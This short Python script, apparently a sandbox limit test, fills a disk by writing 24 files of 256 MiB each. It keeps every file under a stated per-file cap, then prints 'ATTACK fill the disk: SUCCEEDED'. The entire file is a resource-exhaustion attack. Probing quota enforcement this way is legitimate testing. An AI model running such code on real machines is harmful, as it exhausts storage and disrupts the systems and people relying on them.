import time

for _i in range(24):  # 24 files of 256 MiB: 6 GiB, each under the 1 GiB cap per file
    with open(f"fill{_i}.bin", "wb") as _f:
        for _ in range(4):
            _f.write(b"0" * 2**26)
    time.sleep(0.2)
print("ATTACK fill the disk: SUCCEEDED")
